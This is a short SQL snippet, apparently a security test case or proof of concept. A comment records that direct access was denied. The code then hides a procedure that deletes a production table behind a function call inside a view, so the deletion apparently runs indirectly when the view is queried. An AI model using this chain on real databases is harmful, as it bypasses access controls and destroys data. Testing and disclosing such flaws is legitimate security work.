-- own account: denied; login of the target: refused
CREATE PROCEDURE inner_p() DELETE FROM prod.t;
CREATE FUNCTION f() RETURNS int DETERMINISTIC BEGIN CALL inner_p(); RETURN 1; END;
CREATE VIEW v AS SELECT format(1, f()) AS y;
